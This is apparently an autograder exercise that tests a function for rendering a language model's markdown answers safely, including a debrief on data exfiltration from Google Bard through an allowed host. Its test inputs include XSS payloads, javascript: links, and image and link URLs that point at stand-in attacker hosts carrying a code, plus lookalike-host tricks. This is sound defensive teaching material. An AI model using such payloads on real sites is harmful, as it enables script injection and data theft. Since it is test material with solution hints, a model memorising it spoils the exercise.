"""The check of `injection.render`."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from typing import Any

import numpy as np

from autograder.exercise import Trial, brief, exercise

ALLOWED = ("https://clinic.example/", "https://help.clinic.example/")
MARK = re.compile(
    r"!\[(?P<alt>[^\]]*)\]\((?P<image>[^)\s]*)\)"
    r"|\[(?P<words>[^\]]*)\]\((?P<url>[^)\s]*)\)"
    r"|\*\*(?P<bold>[^*]+)\*\*"
)


@exercise(
    minutes=10,
    parts={
        "honest": (3, "shows honest answers: bold, allowed links and plain text with any signs"),
        "encodes": (3, "shows HTML as text, inside bold and links, too"),
        "links": (4, "takes the address off every link that isn't allowed, and keeps the words"),
        "images": (2, "shows no image, and keeps its words"),
    },
    hints=(
        "An address must begin with a prefix of ALLOWED. And which parts of the answer reach the page "
        "without "
        "html.escape in your code?",
        "MARK.sub(shown, answer) calls shown with each match and puts its result there, but what lies "
        "between "
        "the matches stays as it was. So walk over MARK.finditer(answer), and escape what lies between. Or "
        "escape the whole answer first: the marks survive that.",
        "def shown(match):\n"
        "    alt is not None: alt + ' [image removed]'\n"
        "    bold is not None: <strong>bold</strong>\n"
        '    url begins with one of ALLOWED: <a href="url">words</a>\n'
        "    else: words + ' [link removed]'\n"
        "return MARK.sub(shown, html.escape(answer))",
    ),
    debrief=(
        "Looks for an allowed host where anybody may put a page or a redirect. In November 2023 "
        "researchers got "
        "data out of Google Bard that way: its rules allowed hosts owned by Google, and one of them ran "
        "their "
        "script (AML.CS0029).",
        "Takes every address for hostile until the list says otherwise, keeps that list short, and lets "
        "no host "
        "on it that forwards or that strangers can write to. The cost: honest links elsewhere aren't "
        "clickable.",
    ),
    standards=("LLM10", "AML.T0077", "AML.M0033"),
)
def render(t: Trial, render) -> None:
    for rng in t.cases(2):
        for part, answers in _answers(rng).items():
            with t.part(part):
                for answer in answers:
                    _expect_shown(t, render, answer)


def _expect_shown(t: Trial, render: Any, answer: str) -> None:
    got = render(answer)
    t.expect(isinstance(got, str), "The result should be a text.", got=brief(got))
    want = _rendered(answer)
    slips: dict[str, list] = {}
    for slip, other in _wrong(answer).items():
        if _seen(other) not in (_seen(want), *slips.values()):
            slips[slip] = _seen(other)
    t.equal(_seen(got), _seen(want), f"what a browser makes of render({answer!r})", slips=slips)


def _rendered(answer: str, allowed: Any = None, escape: Any = html.escape) -> str:
    parts, end = [], 0
    ok = allowed or (lambda url: url.startswith(ALLOWED))
    for match in MARK.finditer(answer):
        parts.append(html.escape(answer[end : match.start()]))
        end = match.end()
        if match["alt"] is not None:
            parts.append(f"{escape(match['alt'])} [image removed]")
        elif match["bold"] is not None:
            parts.append(f"<strong>{escape(match['bold'])}</strong>")
        elif ok(match["url"]):
            parts.append(f'<a href="{escape(match["url"])}">{escape(match["words"])}</a>')
        else:
            parts.append(f"{escape(match['words'])} [link removed]")
    return "".join([*parts, html.escape(answer[end:])])


def _wrong(answer: str) -> dict[str, str]:
    """What likely misconceptions would show."""
    return {
        "An address that only contains an allowed one isn't allowed: use startswith.": _rendered(
            answer, lambda url: any(each in url for each in ALLOWED)
        ),
        "Compare with the slash at the end: clinic.example.evil.example begins alike.": _rendered(
            answer, lambda url: url.startswith(tuple(each.rstrip("/") for each in ALLOWED))
        ),
        "Words and addresses come from the answer as well: escape them, & and quotes too.": _rendered(
            answer, escape=str
        ),
        "Beginning with https doesn't make it yours.": _rendered(
            answer,
            lambda url: (
                url.startswith(ALLOWED) or (url.startswith("https://") and "clinic" not in url.lower())
            ),
        ),
        "A second escape shows the reader &amp;lt; where a < should be.": html.escape(_rendered(answer)),
    }


class _Reader(HTMLParser):
    """Tags with their attributes, and the text between them, as a browser would take them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[Any] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.seen.append((f"<{tag}>", *attrs))

    def handle_endtag(self, tag: str) -> None:
        self.seen.append((f"</{tag}>",))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.seen.append(("declaration", decl))

    def handle_pi(self, data: str) -> None:
        self.seen.append(("instruction", data))

    def unknown_decl(self, data: str) -> None:
        self.seen.append(("declaration", data))

    def handle_data(self, data: str) -> None:
        if self.seen and isinstance(self.seen[-1], str):
            self.seen[-1] += data
        else:
            self.seen.append(data)


def _seen(page: str) -> list[Any]:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.seen


def _answers(rng: np.random.Generator) -> dict[str, list[str]]:
    case, code = rng.integers(100, 1000), f"{rng.integers(1000, 9999)}-{rng.integers(10, 99)}"
    clinic, advice = ALLOWED
    evil = f"https://{rng.choice(('evil', 'collect', 'sign-in'))}{rng.integers(100)}.example"
    honest = [
        "",
        f"Case {case} is **urgent**.",
        f"**Case {case}**: [open it]({clinic}cases/{case}?tab=notes&full=1#top), or **ask the lab**.",
        f"See [help]({advice}triage) and [home]({clinic}).",
        f'Dose < {case} mg & pH > 7; "as before", it\'s fine. 3 * 4 ** 2 [not a link] (not an address)',
        f"\nCafé Übung,\tβ-carotene: 5 µg, **señor**, [Möbel]({clinic}m)\n",
        f"see [1] and [help]({advice}) and (2) [x] ({clinic})",
        " ".join(f"**{n}** [{n}]({ALLOWED[n % 2]}{n})" for n in range(int(rng.integers(6, 10)))),
        f"[mail]({advice}?mail=a@b%20c&q={'long' * 30}) and [**]({clinic}) and **a\nb**",
        f"** c ** [a\nb]({clinic}c)",
        f'[x]({clinic} "t") and [a]({clinic}(b)) and [a[b]({clinic}) and ** and ****',
        f"First line\n- second [line] ({clinic})\n{clinic} on its own",
        "The tag &lt;b&gt; is written with &amp;lt;.",
    ]
    encodes = [
        "<script>fetch(1)</script>",
        f'<img src="{evil}/?c={code}">',
        f"<a href='{evil}'>sign in</a> again",
        "<b onclick=alert(1)>bold</b> <!-- hidden --> <!doctype html>",
        f"**<img src={evil}>**",
        f"[<img src={evil}>]({clinic})",
        f"[<img src={evil}>]({evil})",
        f"![<script>1</script>]({evil})",
        f'[words]({clinic}"onmouseover="alert(1))',
        f"[words]({clinic}'onmouseover='alert(1))",
        f"[words]({clinic}><script>1</script>)",
        "&lt;script&gt;1&lt;/script&gt;",
        "**&lt;b&gt; &amp;lt;**",
        f"[&lt;b&gt; &amp;]({clinic}?a=&lt;&amp;b=&quot;)",
        f"[&lt;b&gt; &amp;]({evil}) ![&lt;b&gt; &amp;]({evil})",
        f"**[x]({clinic})** [**x**]({clinic}) [**x**]({evil}) ![**x**]({evil})",
        "<?php 1 ?> <![CDATA[1]]> </b> <br/>",
    ]
    links = [
        f"Error. [click here to sign in again]({evil}/in?c={code})",
        f"[one]({evil}) and [two]({clinic}two) and [three]({evil}/3)",
        "[words](javascript:alert(1)",
        "[words](javascript:alert`1`)",
        "[words](data:text/html,hello)",
        f"[words](//{evil[8:]}/{code})",
        "[words](/cases)",
        "[words]()",
        f"[]({evil}/{code})",
        f"[words](https://other.clinic.example/{code})",
        f"[words](https://a.help.clinic.example/{code})",
        *(f"[words]({cousin})" for prefix in ALLOWED for cousin in _cousins(prefix[8:-1], evil[8:], code)),
    ]
    images = [
        f"![a chart]({evil}/pixel?c={code})",
        f"![a chart]({clinic}chart)",
        f"![]({evil}/{code})",
        "![plan]() and ![]()",
        f"![a chart]({advice}chart)",
        f"![one]({evil}/1)![two]({evil}/2) **three**",
        f"[![words]({evil}/{code})]({clinic})",
        f"Look!![one]({evil}/{code})",
    ]
    return {"honest": honest, "encodes": encodes, "links": links, "images": images}


def _cousins(host: str, evil: str, code: str) -> list[str]:
    """Addresses that look like one of an allowed host, and aren't."""
    first, _, rest = host.partition(".")
    return [
        f"https://{host}.{evil}/{code}",
        f"https://{host}@{evil}/{code}",
        f"https://{host}\\@{evil}/{code}",
        f"https://{host}:{code[:4]}@{evil}/",
        f"https://{evil}/?next=https://{host}/",
        f"https://{evil}/#https://{host}/",
        f"https://{evil}/{host}/",
        f"https://{evil}.{host}/{code}",
        f"https://user@{host}/{code}",
        f"https://user:{code}@{host}/",
        f"https://{host}:8443/{code}",
        f"https://{host}:443/{code}",
        f"https://evil{host}/{code}",
        f"https://{first}X{rest}/{code}",
        f"https://{host}",
        f"https://{host}?{code}",
        f"https://{host}s/{code}",
        f"https://{host.capitalize()}/{code}",
        f"https://{host.upper()}/{code}",
        f"HTTPS://{host}/{code}",
        f"http://{host}/{code}",
        f"//{host}/{code}",
        f"https:/{host}/{code}",
        f"{host}/{code}",
        f"xhttps://{host}/{code}",
    ]
